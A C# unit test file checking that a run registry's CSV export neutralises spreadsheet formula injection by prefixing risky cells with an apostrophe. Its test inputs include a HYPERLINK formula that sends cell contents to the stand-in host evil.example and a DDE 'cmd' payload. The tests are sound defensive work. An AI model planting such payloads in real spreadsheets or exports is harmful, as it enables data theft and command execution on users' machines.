using PLaw.Registry.Runs;

namespace PLaw.Registry.Tests.Runs;

/// <summary>CSV exports (shared by <c>/api/runs.csv</c> and <c>plaw export</c>) never hand a spreadsheet a formula (issue #11 probe item 6).</summary>
public sealed class RunExportTests
{
    private static RunSummary Run(string name, string tags) => new(1, name, null, 1, "sasrec", 1, 8, 10, "fp32", 42, RunStatus.Completed,
        2, 2, 10, -0.5, 0.1, 0.05, 100, 200, new DateTime(2026, 1, 1, 0, 0, 0, DateTimeKind.Utc), null, null, tags, null, null);

    private static async Task<string> CsvAsync(params RunSummary[] runs)
    {
        using var output = new MemoryStream();
        await RunExport.RunsCsvAsync(runs, output);
        return System.Text.Encoding.UTF8.GetString(output.ToArray());
    }

    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\"")]
    [InlineData("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0")]
    [InlineData("-2+3", "'-2+3")]
    [InlineData("@SUM(1)", "'@SUM(1)")]
    [InlineData("\tx", "'\tx")]
    [InlineData("\r=1", "\"'\r=1\"")]
    public async Task ACellAFormulaCouldStartWithIsText(string tags, string cell)
    {
        var lines = (await CsvAsync(Run("safe-name", tags))).Split('\n');
        Assert.EndsWith("," + cell, lines[1], StringComparison.Ordinal);
    }

    [Fact]
    public async Task NamesAreNeutralisedTooAndNumbersAndPlainTextAreUntouched()
    {
        var csv = await CsvAsync(Run("=1+1", "baseline,tiny"));
        var row = csv.Split('\n')[1];
        Assert.StartsWith("1,'=1+1,,1,sasrec,", row, StringComparison.Ordinal);
        Assert.Contains(",-0.5,", row, StringComparison.Ordinal);   // a negative loss is a number, not a formula
        Assert.EndsWith(",\"baseline,tiny\"", row, StringComparison.Ordinal);
    }
}
